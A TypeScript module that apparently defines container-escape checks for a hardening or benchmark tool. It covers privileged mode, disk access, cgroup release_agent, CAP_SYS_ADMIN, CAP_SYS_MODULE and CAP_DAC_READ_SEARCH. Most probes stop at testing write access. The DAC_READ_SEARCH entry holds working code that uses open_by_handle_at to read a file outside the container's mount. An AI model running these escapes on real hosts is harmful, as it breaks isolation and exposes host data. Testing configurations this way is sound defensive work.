import type { Escape } from '../model/escape.ts';

const unconfined = ['apparmor=unconfined'];

/** By privileges and capabilities. */
export const privilegeEscapes: readonly Escape[] = [
  {
    id: 'privileged',
    title: 'The container is privileged',
    benchmark: 'privileged',
    source: 'https://docs.docker.com/engine/containers/run/#runtime-privilege-and-linux-capabilities; core(5)',
    create: { HostConfig: { Privileged: true } },
    rules: ['privileged-requested'],
    answer: 'rewritten',
    run: 'open_to_write /proc/sys/kernel/core_pattern',
    proof: { holds: /\/core_pattern$/u },
    means: 'The container names a program that the kernel runs as the machine’s root',
  },
  {
    id: 'privileged-disk',
    title: 'The container is privileged, and has the machine’s disks',
    source: 'https://docs.docker.com/engine/containers/run/#runtime-privilege-and-linux-capabilities: access to all devices',
    create: { HostConfig: { Privileged: true } },
    rules: ['privileged-requested'],
    answer: 'rewritten',
    run: 'open_to_write {disk}',
    proof: { holds: /^\/dev\/[a-z0-9]+$/u },
    means: 'The container reads and writes the disk below the file system',
  },
  {
    id: 'release-agent',
    title: 'CAP_SYS_ADMIN with the machine’s control groups',
    source: 'cgroups(7): release_agent is run by the kernel as root of the machine',
    create: { HostConfig: { CapAdd: ['SYS_ADMIN'], SecurityOpt: unconfined, CgroupnsMode: 'host' } },
    rules: ['capability-added'],
    answer: 'rewritten',
    // An existing hierarchy is mounted once more: nothing new is made on the machine.
    run: `mkdir /tmp/group
group=$(sed -n 's/^[1-9][0-9]*:\\([a-z]\\{1,\\}\\):.*/\\1/p' /proc/self/cgroup | head -n 1)
if [ -z "$group" ]; then echo 'skipped: this machine has control groups of version 2 alone, which have no release_agent'
elif mount -t cgroup -o "$group" none /tmp/group 2>/tmp/why; then open_to_write /tmp/group/release_agent
else echo "held: $(head -n 1 /tmp/why)"
fi`,
    proof: { holds: /\/release_agent$/u },
    means: 'The container names a program that the kernel runs as the machine’s root',
  },
  {
    id: 'sys-admin',
    title: 'CAP_SYS_ADMIN',
    benchmark: 'sys_admin',
    source: 'capabilities(7): mount file systems; core(5)',
    create: { HostConfig: { CapAdd: ['SYS_ADMIN'], SecurityOpt: unconfined } },
    rules: ['capability-added'],
    answer: 'rewritten',
    run: `mkdir /tmp/proc
if mount -t proc none /tmp/proc 2>/tmp/why; then open_to_write /tmp/proc/sys/kernel/core_pattern
else echo "held: $(head -n 1 /tmp/why)"
fi`,
    proof: { holds: /\/core_pattern$/u },
    means: 'The container names a program that the kernel runs as the machine’s root',
  },
  {
    id: 'sys-module',
    title: 'CAP_SYS_MODULE',
    benchmark: 'sys_module',
    source: 'init_module(2): EPERM without the right to load modules; ENOEXEC for what is no module, which is looked at behind that',
    create: { HostConfig: { CapAdd: ['SYS_MODULE'] } },
    rules: ['capability-added'],
    answer: 'rewritten',
    // An empty module is none: nothing is loaded. The numbers are those of the system call on each architecture.
    run: `case $(uname -m) in x86_64) call=175 ;; aarch64 | riscv64) call=105 ;; *) call= ;; esac
if [ -z "$call" ] || ! command -v perl >/dev/null; then echo 'skipped: the image has no perl to ask the kernel with, or this architecture is not known'
else
  case $(perl -e '$none = ""; syscall($ARGV[0] + 0, $none, 0, $none); print $! + 0' "$call") in
    8) echo 'reached: the kernel looked for a module in nothing' ;;
    1) echo 'held: the kernel does not let it load a module' ;;
    38) echo 'skipped: this kernel has no loadable modules' ;;
    *) echo 'held: the kernel refuses otherwise' ;;
  esac
fi`,
    proof: { word: true },
    means: 'The container loads code into the kernel',
  },
  {
    id: 'dac-read-search',
    title: 'CAP_DAC_READ_SEARCH',
    benchmark: 'dac_read_search',
    source: 'open_by_handle_at(2): opens any file of a file system by its number, whatever is mounted of it',
    create: { HostConfig: { CapAdd: ['DAC_READ_SEARCH'], Binds: ['{scratch}/workspace:/workspace'] } },
    rules: ['capability-added'],
    answer: 'rewritten',
    // The root folder of an ext file system is always number 2 (struct file_handle: length, type, then number and generation).
    run: `case $(uname -m) in x86_64) call=304 ;; aarch64 | riscv64) call=265 ;; *) call= ;; esac
set -- $(sed -n 's/^[0-9]* [0-9]* [0-9:]* \\([^ ]*\\) \\/workspace .* - \\([^ ]*\\) .*/\\2 \\1/p' /proc/self/mountinfo)
if [ -z "$call" ] || ! command -v perl >/dev/null; then echo 'skipped: the image has no perl to ask the kernel with, or this architecture is not known'
else case $1 in
  ext[234])
    perl -e '($call, $inside) = @ARGV; $inside =~ s,/[^/]*$,,; open F, "<", "/proc/self/mountinfo"; opendir D, "/workspace" or die "$!\\n";
      $handle = pack("LlLL", 8, 1, 2, 0); $root = syscall($call + 0, fileno(D), $handle, 0); die "$!\\n" if $root < 0;
      open S, "<", "/proc/self/fd/$root$inside/secret" or die "$!\\n"; print "reached: read ", <S>' "$call" "$2" 2>/tmp/why || echo "held: $(head -n 1 /tmp/why)" ;;
  *) echo "skipped: the number of the root folder is known for ext file systems alone, and this one is $1 (TMPDIR names another place)" ;;
esac; fi`,
    proof: { secret: 'file' },
    means: 'The container reads any file of the file system that one of its folders lies on',
  },
];
